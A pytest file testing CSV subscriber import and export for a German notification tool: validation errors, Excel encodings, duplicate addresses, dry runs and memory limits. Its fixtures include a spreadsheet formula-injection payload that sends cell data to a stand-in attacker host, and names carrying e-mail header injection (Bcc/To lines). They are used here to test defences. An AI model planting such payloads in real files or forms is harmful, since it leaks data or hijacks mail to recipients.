"""``notifier subscribers import``/``export``: a file is checked whole, then written in one go."""

from __future__ import annotations

import csv
import io
import os
import sqlite3
import subprocess
import sys
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest

from notifier.csvfiles import FORMULA_STARTS, neutralised, restored

from .conftest import EXAMPLE, ORGANISATIONS, Project

HEADER = "email,name,role,organisation,topics,rhythm"


def query(project: Project, sql: str, *params: Any) -> list[tuple[Any, ...]]:
    with closing(sqlite3.connect(project.root / "var" / "test.db")) as db:
        return db.execute(sql, params).fetchall()


def execute(project: Project, sql: str, *params: Any) -> None:
    with closing(sqlite3.connect(project.root / "var" / "test.db")) as db, db:
        db.execute(sql, params)


def exported(project: Project) -> dict[str, dict[str, str]]:
    """The export, by e-mail address."""
    text = project.cli("subscribers", "export").output
    rows = list(csv.DictReader(io.StringIO(text)))
    assert text.startswith(HEADER + "\n")
    return {row["email"]: row for row in rows}


def example_lines() -> list[str]:
    return EXAMPLE.read_text("utf-8").splitlines()


def subscriber_count(project: Project) -> int:
    return int(query(project, "SELECT count(*) FROM subscribers")[0][0])


@pytest.fixture
def tree(project: Project) -> Project:
    """A project with the organisation tree loaded and no subscribers."""
    project.cli("organisations", "load", ORGANISATIONS)
    return project


def test_example_file_imports(tree: Project) -> None:
    result = tree.cli("subscribers", "import", EXAMPLE)

    assert f"{EXAMPLE}: 12 neu, 0 geändert, 0 unverändert." in result.output
    rows = exported(tree)
    assert len(rows) == 12
    assert rows["sabine.klein@vg-speicher.example"] == {
        "email": "sabine.klein@vg-speicher.example",
        "name": "Sabine Klein",
        "role": "staff",
        "organisation": "072325007",
        "topics": "eifelleben;versorgung",
        "rhythm": "daily",
    }
    # Organisation names in the file are stored as the unit's key.
    assert rows["markus.weber@kreis.example"]["organisation"] == "07232"
    assert rows["josef.thiel@og-schoenecken.example"]["organisation"] == "07232304"
    audited = query(tree, "SELECT count(*) FROM audit_log WHERE action = 'subscriber.imported'")
    assert audited == [(12,)]


def test_importing_twice_changes_nothing(tree: Project) -> None:
    tree.cli("subscribers", "import", EXAMPLE)
    before = query(tree, "SELECT * FROM subscribers ORDER BY id")
    subscriptions = query(tree, "SELECT * FROM subscriptions ORDER BY 1, 2")
    audit = query(tree, "SELECT count(*) FROM audit_log")

    result = tree.cli("subscribers", "import", EXAMPLE)

    assert "0 neu, 0 geändert, 12 unverändert." in result.output
    assert query(tree, "SELECT * FROM subscribers ORDER BY id") == before
    assert query(tree, "SELECT * FROM subscriptions ORDER BY 1, 2") == subscriptions
    assert query(tree, "SELECT count(*) FROM audit_log") == audit


def test_changed_row_updates_the_subscriber(tree: Project) -> None:
    tree.cli("subscribers", "import", EXAMPLE)
    lines = example_lines()
    old = "julia.hoffmann@vg-arzfeld.example,Julia Hoffmann,staff,Verbandsgemeinde Arzfeld,"
    (index,) = [i for i, line in enumerate(lines) if line.startswith(old)]
    lines[index] = (
        "julia.hoffmann@vg-arzfeld.example,Julia Hoffmann-Berg,staff,"
        "Verbandsgemeinde Arzfeld,strategie;eifelleben,daily"
    )
    changed = tree.write("changed.csv", "\n".join(lines) + "\n")

    result = tree.cli("subscribers", "import", changed)

    assert "0 neu, 1 geändert, 11 unverändert." in result.output
    row = exported(tree)["julia.hoffmann@vg-arzfeld.example"]
    assert row["name"] == "Julia Hoffmann-Berg"
    assert row["topics"] == "eifelleben;strategie"
    assert row["rhythm"] == "daily"
    (details,) = query(tree, "SELECT details FROM audit_log WHERE action = 'subscriber.updated'")
    assert '"name"' in details[0] and '"topics"' in details[0] and '"rhythm"' in details[0]
    assert '"role"' not in details[0]


def test_topics_to_all_and_back(tree: Project) -> None:
    first = tree.write(
        "first.csv", f"{HEADER}\nx@gemeinde.example,X Y,staff,07232,strategie,weekly\n"
    )
    all_topics = tree.write("all.csv", f"{HEADER}\nx@gemeinde.example,X Y,staff,07232,,weekly\n")

    tree.cli("subscribers", "import", first)
    assert (
        "0 neu, 1 geändert, 0 unverändert." in tree.cli("subscribers", "import", all_topics).output
    )
    assert exported(tree)["x@gemeinde.example"]["topics"] == ""
    assert query(tree, "SELECT all_topics FROM subscribers") == [(1,)]
    assert query(tree, "SELECT count(*) FROM subscriptions") == [(0,)]

    assert "1 geändert" in tree.cli("subscribers", "import", first).output
    assert exported(tree)["x@gemeinde.example"]["topics"] == "strategie"
    assert query(tree, "SELECT all_topics FROM subscribers") == [(0,)]


def test_empty_topics_means_all_topics(tree: Project) -> None:
    path = tree.write(
        "all.csv",
        f"{HEADER}\n"
        "alle@gemeinde.example,Alle Themen,staff,07232,,immediate\n"
        'zwei@gemeinde.example,Zwei Themen,staff,07232,"versorgung, strategie",immediate\n',
    )

    tree.cli("subscribers", "import", path)

    rows = exported(tree)
    assert rows["alle@gemeinde.example"]["topics"] == ""
    # "," works as well as ";" between topics; they are stored sorted.
    assert rows["zwei@gemeinde.example"]["topics"] == "strategie;versorgung"
    stored = query(
        tree,
        "SELECT s.email, s.all_topics, count(t.topic_key) FROM subscribers s "
        "LEFT JOIN subscriptions t ON t.subscriber_id = s.id GROUP BY s.id ORDER BY s.email",
    )
    assert stored == [("alle@gemeinde.example", 1, 0), ("zwei@gemeinde.example", 0, 2)]


GOOD_ROW = "gut@gemeinde.example,Gute Zeile,staff,07232,,immediate"


def test_bad_rows_are_all_listed_and_nothing_is_stored(tree: Project) -> None:
    path = tree.write(
        "bad.csv",
        f"{HEADER}\n"
        f"{GOOD_ROW}\n"  # 2
        "keine-adresse,Kein At,staff,07232,,immediate\n"  # 3
        "rolle@gemeinde.example,Rolle,chef,07232,,immediate\n"  # 4
        "org@gemeinde.example,Org,staff,Nirgendwo,,immediate\n"  # 5
        "thema@gemeinde.example,Thema,staff,07232,strategie;wetter,immediate\n"  # 6
        "rhythmus@gemeinde.example,Rhythmus,staff,07232,,stuendlich\n"  # 7
        "GUT@Gemeinde.example,Noch einmal,mayor,Bitburg,,daily\n"  # 8
        "zweite-gute@gemeinde.example,Zweite Gute,mayor,Bitburg,,daily\n",  # 9
    )

    result = tree.cli("subscribers", "import", path, ok=False)

    assert result.exit_code == 1
    out = result.output
    assert "6 Fehler, nichts wurde gespeichert" in out
    assert "Zeile 3, Spalte 'email'" in out
    assert "Zeile 4, Spalte 'role'" in out
    assert "'chef'" in out
    assert "Zeile 5, Spalte 'organisation'" in out
    assert "'Nirgendwo'" in out
    assert "Zeile 6, Spalte 'topics'" in out
    assert "wetter" in out
    assert "Zeile 7, Spalte 'rhythm'" in out
    assert "'stuendlich'" in out
    assert "Zeile 8, Spalte 'email'" in out
    assert "steht schon in Zeile 2" in out
    assert "Zeile 2," not in out
    assert "Zeile 9," not in out
    assert subscriber_count(tree) == 0
    assert query(tree, "SELECT count(*) FROM audit_log WHERE entity = 'subscriber'") == [(0,)]


def test_wrong_field_count_is_listed_with_the_other_bad_rows(tree: Project) -> None:
    """Every bad row is named, a row with too few fields as well as the others."""
    path = tree.write(
        "bad.csv",
        f"{HEADER}\n"
        f"{GOOD_ROW}\n"  # 2
        "keine-adresse,Kein At,staff,07232,,immediate\n"  # 3
        "rolle@gemeinde.example,Rolle,chef,07232,,immediate\n"  # 4
        "kurz@gemeinde.example,Kurz,staff\n"  # 5
        "rhythmus@gemeinde.example,Rhythmus,staff,07232,,stuendlich\n",  # 6
    )

    result = tree.cli("subscribers", "import", path, ok=False)

    assert result.exit_code == 1
    out = result.output
    assert "Zeile 5" in out
    assert "3 Felder statt 6" in out
    assert "Zeile 3, Spalte 'email'" in out
    assert "Zeile 4, Spalte 'role'" in out
    assert "Zeile 6, Spalte 'rhythm'" in out
    assert subscriber_count(tree) == 0


def test_bad_file_does_not_change_stored_subscribers(tree: Project) -> None:
    tree.cli("subscribers", "import", EXAMPLE)
    before = exported(tree)
    lines = example_lines()
    lines[1] = lines[1].replace("Anna Schmitz", "Anna Schmitz-Neu")
    lines.append("neu@gemeinde.example,Neu,staff,07232,,immediate")
    lines.append("falsch@gemeinde.example,Falsch,staff,07232,,jaehrlich")
    path = tree.write("mixed.csv", "\n".join(lines) + "\n")

    result = tree.cli("subscribers", "import", path, ok=False)

    assert result.exit_code == 1
    assert "Zeile 15, Spalte 'rhythm'" in result.output
    assert exported(tree) == before


def test_dry_run_reports_but_writes_nothing(tree: Project) -> None:
    result = tree.cli("subscribers", "import", "--dry-run", EXAMPLE)

    assert "Probelauf, nichts gespeichert" in result.output
    assert "12 neu, 0 geändert, 0 unverändert." in result.output
    assert subscriber_count(tree) == 0
    assert query(tree, "SELECT count(*) FROM audit_log WHERE entity = 'subscriber'") == [(0,)]

    tree.cli("subscribers", "import", EXAMPLE)
    lines = example_lines()
    lines[1] = lines[1].replace("Anna Schmitz", "Anna Schmitz-Neu")
    lines.append("neu@gemeinde.example,Neu,staff,07232,,immediate")
    changed = tree.write("changed.csv", "\n".join(lines) + "\n")
    before = exported(tree)

    result = tree.cli("subscribers", "import", "--dry-run", changed)

    assert "1 neu, 1 geändert, 11 unverändert." in result.output
    assert exported(tree) == before
    assert subscriber_count(tree) == 12


def test_dry_run_of_a_bad_file_reports_the_rows(tree: Project) -> None:
    path = tree.write("bad.csv", f"{HEADER}\nx@gemeinde.example,X,staff,07232,,nie\n")

    result = tree.cli("subscribers", "import", "--dry-run", path, ok=False)

    assert result.exit_code == 1
    assert "Zeile 2, Spalte 'rhythm'" in result.output


def test_excel_utf8_with_bom_semicolons_and_crlf(tree: Project) -> None:
    text = (
        "email;name;role;organisation;topics;rhythm\r\n"
        "kaethe@gemeinde.example;Käthe Müßig;staff;Verbandsgemeinde Prüm;"
        "strategie,mobilitaet;daily\r\n"
        'jos@gemeinde.example;"Thiel; Josef";mayor;Schönecken;;weekly\r\n'
        ";;;;;\r\n"  # Excel leaves empty rows at the end
    )
    path = tree.write("excel-utf8.csv", "\ufeff" + text, "utf-8")

    result = tree.cli("subscribers", "import", path)

    assert "2 neu" in result.output
    rows = exported(tree)
    assert rows["kaethe@gemeinde.example"]["name"] == "Käthe Müßig"
    assert rows["kaethe@gemeinde.example"]["organisation"] == "072325006"
    assert rows["kaethe@gemeinde.example"]["topics"] == "mobilitaet;strategie"
    assert rows["jos@gemeinde.example"]["name"] == "Thiel; Josef"
    assert rows["jos@gemeinde.example"]["organisation"] == "07232304"
    assert rows["jos@gemeinde.example"]["rhythm"] == "weekly"
    # The BOM is not part of the first column's name or value.
    assert not any("\ufeff" in email for email in rows)


def test_excel_windows_1252(tree: Project) -> None:
    text = (
        "email;name;role;organisation;topics;rhythm\r\n"
        "juergen@gemeinde.example;Jürgen Größ;mayor;Prüm;versorgung;immediate\r\n"
        "doerte@gemeinde.example;Dörte Weiß-Bäcker;staff;Verbandsgemeinde Südeifel;;daily\r\n"
    )
    path = tree.write("excel-1252.csv", text, "cp1252")
    assert "Jürgen".encode("cp1252") in path.read_bytes()  # really not UTF-8

    result = tree.cli("subscribers", "import", path)

    assert "2 neu" in result.output
    rows = exported(tree)
    assert rows["juergen@gemeinde.example"]["name"] == "Jürgen Größ"
    assert rows["juergen@gemeinde.example"]["organisation"] == "07232296"
    assert rows["doerte@gemeinde.example"]["name"] == "Dörte Weiß-Bäcker"
    assert rows["doerte@gemeinde.example"]["organisation"] == "072325005"
    names = query(tree, "SELECT name FROM subscribers ORDER BY email")
    assert names == [("Dörte Weiß-Bäcker",), ("Jürgen Größ",)]


def test_organisation_by_key_or_exact_name(tree: Project) -> None:
    path = tree.write(
        "orgs.csv",
        f"{HEADER}\n"
        "per-name@gemeinde.example,Per Name,staff,Verbandsgemeinde Prüm,,daily\n"
        "per-key@gemeinde.example,Per Key,staff,072325006,,daily\n"
        "stadt@gemeinde.example,Stadt,staff,Bitburg,,daily\n",
    )

    tree.cli("subscribers", "import", path)

    rows = exported(tree)
    assert rows["per-name@gemeinde.example"]["organisation"] == "072325006"
    assert rows["per-key@gemeinde.example"]["organisation"] == "072325006"
    assert rows["stadt@gemeinde.example"]["organisation"] == "07232018"


def test_organisation_name_must_be_exact(tree: Project) -> None:
    path = tree.write(
        "inexact.csv", f"{HEADER}\nx@gemeinde.example,X,staff,verbandsgemeinde prüm,,daily\n"
    )

    result = tree.cli("subscribers", "import", path, ok=False)

    assert result.exit_code == 1
    assert "Zeile 2, Spalte 'organisation'" in result.output
    assert subscriber_count(tree) == 0


def test_email_is_stored_lower_case(tree: Project) -> None:
    path = tree.write(
        "upper.csv", f"{HEADER}\nAnna.Schmitz@KREIS.Example,Anna Schmitz,staff,07232,,daily\n"
    )

    tree.cli("subscribers", "import", path)

    assert list(exported(tree)) == ["anna.schmitz@kreis.example"]
    assert query(tree, "SELECT email FROM subscribers") == [("anna.schmitz@kreis.example",)]
    # The same address in other letters is the same subscriber.
    again = tree.write(
        "lower.csv", f"{HEADER}\nanna.schmitz@kreis.example,Anna Schmitz,staff,07232,,daily\n"
    )
    assert "0 neu, 0 geändert, 1 unverändert." in tree.cli("subscribers", "import", again).output


def test_addresses_differing_in_case_are_duplicates(tree: Project) -> None:
    path = tree.write(
        "dupes.csv",
        f"{HEADER}\nA@X.example,Erste,staff,07232,,daily\na@x.example,Zweite,staff,07232,,daily\n",
    )

    result = tree.cli("subscribers", "import", path, ok=False)

    assert result.exit_code == 1
    assert "Zeile 3, Spalte 'email': a@x.example steht schon in Zeile 2" in result.output
    assert subscriber_count(tree) == 0


def test_name_with_a_newline_is_refused(tree: Project) -> None:
    path = tree.write(
        "inject.csv",
        f"{HEADER}\n"
        f"{GOOD_ROW}\n"  # 2
        'boese@gemeinde.example,"Max\nBcc: alle@example.org",staff,07232,,immediate\n'  # 3-4
        "rolle@gemeinde.example,Rolle,chef,07232,,immediate\n",  # 5
    )

    result = tree.cli("subscribers", "import", path, ok=False)

    assert result.exit_code == 1
    assert "Zeile 3, Spalte 'name'" in result.output
    # Line numbers count lines of the file, so the row after the two-line field is line 5.
    assert "Zeile 5, Spalte 'role'" in result.output
    assert subscriber_count(tree) == 0


def test_name_with_a_carriage_return_is_refused(tree: Project) -> None:
    path = tree.write(
        "inject.csv",
        f'{HEADER}\nboese@gemeinde.example,"Max\rTo: x@example.org",staff,07232,,immediate\n',
    )

    result = tree.cli("subscribers", "import", path, ok=False)

    assert result.exit_code == 1
    assert "Spalte 'name'" in result.output
    assert subscriber_count(tree) == 0


def test_unsubscribed_stays_unsubscribed(tree: Project) -> None:
    tree.cli("subscribers", "import", EXAMPLE)
    gone = "thomas.becker@vg-pruem.example"
    execute(tree, "UPDATE subscribers SET status = 'unsubscribed' WHERE email = ?", gone)

    result = tree.cli("subscribers", "import", EXAMPLE)

    assert "0 neu, 0 geändert, 11 unverändert." in result.output
    assert f"1 abgemeldete Adressen bleiben abgemeldet: {gone}" in result.output
    assert query(tree, "SELECT status FROM subscribers WHERE email = ?", gone) == [
        ("unsubscribed",)
    ]
    assert gone not in exported(tree)


def test_changed_row_of_unsubscribed_keeps_them_unsubscribed(tree: Project) -> None:
    tree.cli("subscribers", "import", EXAMPLE)
    gone = "thomas.becker@vg-pruem.example"
    execute(tree, "UPDATE subscribers SET status = 'unsubscribed' WHERE email = ?", gone)
    old, new = "Prüm,,immediate", "Prüm,,weekly"
    lines = [line.replace(old, new) if line.startswith(gone) else line for line in example_lines()]
    path = tree.write("changed.csv", "\n".join(lines) + "\n")

    result = tree.cli("subscribers", "import", path)

    assert gone in result.output
    assert "abgemeldet" in result.output
    assert query(tree, "SELECT status, rhythm FROM subscribers WHERE email = ?", gone) == [
        ("unsubscribed", "weekly")
    ]


def test_export_reimports_unchanged(tree: Project) -> None:
    tree.cli("subscribers", "import", EXAMPLE)
    extra = tree.write(
        "extra.csv",
        f"{HEADER}\n"
        '"komma@gemeinde.example","Müller, Bernd",council_member,Holsthum,"strategie;versorgung",'
        "weekly\n"
        'zitat@gemeinde.example,"Hans ""der Jüngere"" Roth",mayor,Prüm,,daily\n',
    )
    tree.cli("subscribers", "import", extra)

    text = tree.cli("subscribers", "export").output
    path = tree.write("export.csv", text)
    result = tree.cli("subscribers", "import", path)

    assert f"{path}: 0 neu, 0 geändert, 14 unverändert." in result.output
    rows = exported(tree)
    assert rows["komma@gemeinde.example"]["name"] == "Müller, Bernd"
    assert rows["zitat@gemeinde.example"]["name"] == 'Hans "der Jüngere" Roth'


def test_export_to_a_file(tree: Project) -> None:
    tree.cli("subscribers", "import", EXAMPLE)
    target = tree.root / "out.csv"

    result = tree.cli("subscribers", "export", "-o", target)

    assert "12 Abonnenten" in result.output
    assert target.read_text("utf-8") == tree.cli("subscribers", "export").output
    assert "0 neu, 0 geändert, 12 unverändert." in tree.cli("subscribers", "import", target).output


FORMULAS = {
    "hyperlink@gemeinde.example": '=HYPERLINK("https://angreifer.example/?d="&A1;"Klick")',
    "summe@gemeinde.example": "+SUM(1+1)",
    "minus@gemeinde.example": "-2+3",
    "at@gemeinde.example": "@SUM(A1:A9)",
    "zitiert@gemeinde.example": "'=schon zitiert",
    "apostroph@gemeinde.example": "'s Anna",
}


def test_export_neutralises_formulas_and_the_excel_form_imports_the_same(
    tree: Project, tmp_path: Path
) -> None:
    tree.cli("subscribers", "import", EXAMPLE)
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(HEADER.split(","))
    writer.writerows(
        [email, name, "staff", "07232", "", "daily"] for email, name in FORMULAS.items()
    )
    tree.cli("subscribers", "import", tree.write("formeln.csv", out.getvalue()))
    # A ' before = in a file is Excel's text mark and is read as such; a name stored with it
    # (from the sign-up form, say) must come back as it is.
    assert query(tree, "SELECT name FROM subscribers WHERE email = 'zitiert@gemeinde.example'") == [
        ("=schon zitiert",)
    ]
    execute(
        tree,
        "UPDATE subscribers SET name = ? WHERE email = ?",
        FORMULAS["zitiert@gemeinde.example"],
        "zitiert@gemeinde.example",
    )

    plain = tree.cli("subscribers", "export").output
    rows = list(csv.reader(io.StringIO(plain)))
    # OWASP: no cell starts with = + - @ (tab and CR cannot occur: the import refuses them).
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    names = {row[0]: row[1] for row in rows}
    assert names["hyperlink@gemeinde.example"] == "'" + FORMULAS["hyperlink@gemeinde.example"]
    assert names["minus@gemeinde.example"] == "'-2+3"
    assert names["zitiert@gemeinde.example"] == "''=schon zitiert"
    assert names["apostroph@gemeinde.example"] == "'s Anna"

    excel = tree.root / "excel.csv"
    tree.cli("subscribers", "export", "--excel", "-o", excel)
    data = excel.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfemail;name;role;organisation;topics;rhythm\r\n")
    excel_rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert excel_rows == rows

    # A fresh project imports either form: the same subscribers, names as they were.
    (tmp_path / "fresh").mkdir()
    fresh = Project(tmp_path / "fresh", tree.smtp)
    fresh.cli("organisations", "load", ORGANISATIONS)
    result = fresh.cli("subscribers", "import", excel)
    assert f"{excel}: 18 neu, 0 geändert, 0 unverändert." in result.output
    assert exported(fresh) == exported(tree)
    again = fresh.cli("subscribers", "import", tree.write("plain.csv", plain)).output
    assert "0 neu, 0 geändert, 18 unverändert." in again
    stored = dict(
        query(fresh, "SELECT email, name FROM subscribers WHERE email LIKE '%@gemeinde%'")
    )
    assert stored == FORMULAS


@pytest.mark.parametrize(
    "value", ["=1+2", "+1", "-1", "@A1", "\tx", "\rx", "'=x", "''+x", "'x", "x", "", "'", "''"]
)
def test_neutralised_cells_are_restored_exactly(value: str) -> None:
    cell = neutralised(value)
    assert not cell.startswith(FORMULA_STARTS)
    assert restored(cell) == value


@pytest.mark.parametrize(
    ("header", "problem"),
    [
        ("email,name,role,organisation,topics", "Spalte 'rhythm': Spalte fehlt"),
        (HEADER + ",telefon", "Spalte 'telefon': unbekannte Spalte"),
    ],
)
def test_header_problems(tree: Project, header: str, problem: str) -> None:
    path = tree.write("header.csv", f"{header}\nx@gemeinde.example,X,staff,07232,,daily\n")

    result = tree.cli("subscribers", "import", path, ok=False)

    assert result.exit_code == 1
    assert f"Zeile 1, {problem}" in result.output
    assert subscriber_count(tree) == 0


def test_umlauts_before_the_at_are_refused_with_the_row_and_a_german_reason(tree: Project) -> None:
    """Without SMTPUTF8 no message to such an address can be sent, so the file is refused."""
    path = tree.write(
        "umlaute.csv",
        f"{HEADER}\n"
        f"{GOOD_ROW}\n"  # 2
        "jürgen@kreis.example,Jürgen Weber,staff,07232,,daily\n"  # 3
        "ÄNDERUNG@BÜRGERMEISTER.DE,Änderung,staff,07232,,daily\n",  # 4
    )

    result = tree.cli("subscribers", "import", path, ok=False)

    assert result.exit_code == 1
    out = result.output
    assert "2 Fehler, nichts wurde gespeichert" in out
    assert (
        "Zeile 3, Spalte 'email': 'jürgen@kreis.example': Umlaute und andere Sonderzeichen sind "
        "vor dem @ nicht möglich (ü); bitte eine Adresse ohne Umlaute verwenden, "
        "z. B. juergen@kreis.example." in out
    )
    assert "Zeile 4, Spalte 'email': 'ÄNDERUNG@BÜRGERMEISTER.DE': Umlaute" in out
    assert subscriber_count(tree) == 0


def test_syntax_errors_of_addresses_are_explained_in_german(tree: Project) -> None:
    path = tree.write(
        "syntax.csv",
        f"{HEADER}\n"
        "keine-adresse,A,staff,07232,,daily\n"  # 2
        "leer@,B,staff,07232,,daily\n"  # 3
        "x@ohne-punkt,C,staff,07232,,daily\n"  # 4
        "zwei..punkte@kreis.example,D,staff,07232,,daily\n",  # 5
    )

    out = tree.cli("subscribers", "import", path, ok=False).output

    assert "Zeile 2, Spalte 'email': 'keine-adresse': Keine gültige E-Mail-Adresse: das " in out
    assert "Zeile 3, Spalte 'email': 'leer@': Keine gültige E-Mail-Adresse: nach dem @ " in out
    assert "Zeile 4, Spalte 'email': 'x@ohne-punkt': Keine gültige E-Mail-Adresse: die " in out
    assert "Zeile 5, Spalte 'email': 'zwei..punkte@kreis.example': Keine gültige" in out
    # None of email_validator's English reasons reaches people.
    assert "@-sign" not in out and "email address" not in out and "period" not in out


def test_international_domain_is_stored_idna_encoded(tree: Project) -> None:
    stored = "info@" + "bürgermeister.de".encode("idna").decode("ascii")
    path = tree.write(
        "idn.csv", f"{HEADER}\nINFO@Bürgermeister.DE,Bürgermeister,mayor,07232,,daily\n"
    )

    assert "1 neu" in tree.cli("subscribers", "import", path).output

    assert stored.startswith("info@xn--")
    assert query(tree, "SELECT email FROM subscribers") == [(stored,)]
    assert list(exported(tree)) == [stored]
    # The Unicode and the IDNA spelling are the same address.
    again = tree.write("idna.csv", f"{HEADER}\n{stored},Bürgermeister,mayor,07232,,daily\n")
    assert "0 neu, 0 geändert, 1 unverändert." in tree.cli("subscribers", "import", again).output


def test_problems_beyond_the_first_hundred_are_counted(tree: Project) -> None:
    rows = "".join(f"x{i}@gemeinde.example,X,staff,07232,,nie\n" for i in range(150))
    path = tree.write("viele.csv", f"{HEADER}\n{rows}")

    out = tree.cli("subscribers", "import", path, ok=False).output

    assert "150 Fehler, nichts wurde gespeichert" in out
    assert out.count("Spalte 'rhythm'") == 100
    assert "Zeile 101, Spalte 'rhythm'" in out and "Zeile 102," not in out
    assert out.rstrip().endswith("… und 50 weitere")


def test_windows_1252_is_recognised_after_the_first_megabyte(tree: Project) -> None:
    """The encoding is decided on the whole file, though it is read a row at a time."""
    blank = ";;;;;\r\n" * 300_000  # rows Excel leaves empty: skipped
    text = (
        "email;name;role;organisation;topics;rhythm\r\n"
        f"{blank}juergen@gemeinde.example;Jürgen Größ;mayor;Prüm;;nie\r\n"
    )
    path = tree.write("spaet.csv", text, "cp1252")
    assert len(blank) > 2**20

    out = tree.cli("subscribers", "import", path, ok=False).output

    assert "Zeile 300002, Spalte 'rhythm'" in out
    fixed = tree.write("spaet.csv", text.replace(";nie", ";daily"), "cp1252")
    assert "1 neu" in tree.cli("subscribers", "import", fixed).output
    assert query(tree, "SELECT name FROM subscribers") == [("Jürgen Größ",)]


# Runs its arguments as a child and prints the child's peak resident memory (KiB) last. The
# kernel counts in a child's peak the memory of the process it was forked from (pytest itself,
# near 200 MB late in the suite), so the command is started from this small process instead.
_MEASURE = """
import os, subprocess, sys
child = subprocess.Popen(sys.argv[1:])
_, status, usage = os.wait4(child.pid, 0)
child.returncode = os.waitstatus_to_exitcode(status)
print(usage.ru_maxrss, file=sys.stderr)
sys.exit(child.returncode)
"""


def _run_measured(project: Project, *args: str | Path) -> tuple[int, str, float]:
    """Run ``notifier --config … ARGS`` as a process of its own; its exit code, output and peak
    resident memory in MB."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("NOTIFIER_")}
    command = [sys.executable, "-m", "notifier", "--config", str(project.config), *args]
    done = subprocess.run(
        [sys.executable, "-c", _MEASURE, *map(str, command)],
        cwd=project.root,
        env=env,
        capture_output=True,
        text=True,
        check=False,
    )
    output, _, peak_kib = done.stderr.rstrip().rpartition("\n")
    return done.returncode, done.stdout + output, int(peak_kib) / 1024


def test_a_50_mb_file_with_a_bad_last_row_is_refused_in_bounded_memory(tree: Project) -> None:
    """The file is checked as it is read: memory does not grow with its size (it took 846 MB
    when every row was kept)."""
    path = tree.root / "gross.csv"
    line = size = 1
    with path.open("w", encoding="ascii", newline="") as out:
        out.write(HEADER + "\n")
        while size < 50 * 2**20:
            line += 1
            size += out.write(
                f"vorname.nachname{line}@og-gemeinde-{line % 232}.example,Vorname Nachname "
                f"{line},staff,07232,strategie;versorgung,daily\n"
            )
        line += 1
        out.write("letzte@gemeinde.example,Letzte Zeile,staff,07232,,stuendlich\n")

    code, output, peak_mb = _run_measured(tree, "subscribers", "import", path)

    assert code == 1, output
    assert f"{path}: 1 Fehler, nichts wurde gespeichert" in output
    assert f"Zeile {line}, Spalte 'rhythm': 'stuendlich'" in output
    assert subscriber_count(tree) == 0
    assert peak_mb <= 150, f"peak RSS {peak_mb:.0f} MB"
